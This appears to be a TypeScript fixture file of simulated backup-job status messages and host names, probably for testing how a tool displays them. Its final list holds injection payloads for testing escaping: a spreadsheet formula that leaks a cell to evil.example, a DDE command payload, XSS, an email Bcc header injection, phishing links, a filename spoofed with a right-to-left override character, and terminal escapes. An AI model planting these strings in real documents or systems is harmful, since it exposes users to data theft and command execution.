/** Why a job failed, as a support line would write it. `{host}`, `{code}`, `{n}` are filled in. */
export const failureComments: readonly string[] = [
  'The VM agent did not respond within 30 minutes.',
  'Error 0x80070005: access is denied. Check the permissions of the app registration.',
  'The snapshot of {host} could not be created. Error code: {code}.',
  'The storage account is not reachable: connection timed out after 300 seconds.',
  'The subnet of {host} has no free address for the worker ({code}).',
  'Quota exceeded for resource "snapshots" in region westeurope. Limit: {n}.',
  'The service returned 429 Too Many Requests for more than 2 hours.',
  'The disk {host}_OsDisk_1 is encrypted with a key that cannot be read ({code}).',
  'Login failed for user "svc-backup". (Microsoft SQL Server, Error: 18456)',
  'バックアップに失敗しました。サーバー {host} に接続できません。',
  'فشل النسخ الاحتياطي: انتهت مهلة الاتصال بالخادم {host}.',
  'Η δημιουργία αντιγράφου απέτυχε: δεν υπάρχει χώρος στο {host}.',
  'Ошибка резервного копирования: узел {host} недоступен (код {code}).',
  'Sicherung fehlgeschlagen: Für „{host}“ fehlt die Berechtigung.',
];

/** Why the service that fails night after night does so: the same reason each time. */
export const outageComment =
  'The client secret of the app profile has expired. Re-authorize the app profile and run the job again.';

/** What went wrong for some objects of a job. `{failed}` of `{total}`. */
export const exceptionComments: readonly string[] = [
  '{failed} of {total} objects could not be backed up. See the job report.',
  '{failed} objects failed: the file is locked by another process.',
  'Some objects were changed during the backup. Failed objects: {failed}.',
  'Partially finished ⚠️ {failed} item(s) not readable on {host}.',
  '{failed} 個のオブジェクトを処理できませんでした。',
];

export const skippedComments: readonly string[] = [
  'The previous job of this plan is still running. This job is skipped.',
  'No change since the last backup.',
  'The subscription is disabled.',
];

export const stoppedComments: readonly string[] = [
  'Stopped by admin@contoso.example.',
  'The job was stopped because the maintenance window of the region began.',
  'Stopped by user Ελένη Παπαδοπούλου.',
];

export const waitingComments: readonly string[] = ['Waiting for an available agent.', 'Queued behind 3 other jobs.'];

/** Beside a success there is mostly nothing to say. */
export const successComments: readonly string[] = [
  'Completed. Retention: 30 days.',
  'Server {host} was added to the scope.',
  'Abgeschlossen ✅',
];

export const hosts: readonly string[] = [
  'vm-erp-01',
  'vm-web-prod-3',
  'sql-fin-02',
  'WIN-7Q2M4',
  'data-lake-eu',
  'サーバー東京01',
  'файловый-сервер',
  'naïve-café-07',
  'خادم-الرياض',
];

/** Text that attacks whoever shows it: spreadsheets, chats, mails, logs, terminals. */
export const hostileComments: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '\t=1+1',
  '[Open the report](https://evil.example/login)',
  '@everyone The backups are gone, see <https://evil.example>',
  '<@&123456789012345678> <#123456789012345678> <at>Admin</at>',
  '<script>alert("backup")</script><img src=x onerror=alert(1)>',
  '**bold** _italic_ ~~strike~~ `code` > quote ||spoiler||',
  'first line\r\nBcc: victim@evil.example\r\n\r\nsecond line',
  '${$root.secret} {{title}} ${if(true, "x", "y")}',
  'invoice_\u202Efdp.exe is ready',
  'zero\u200Bwidth and \u0007bell and \u001B[31mred\u001B[0m',
  'nul \u0000 byte, _x000D_ and ]]> and &amp; and ";,\'',
  '2026-07-01 06:00:00 ERROR forged log line',
];
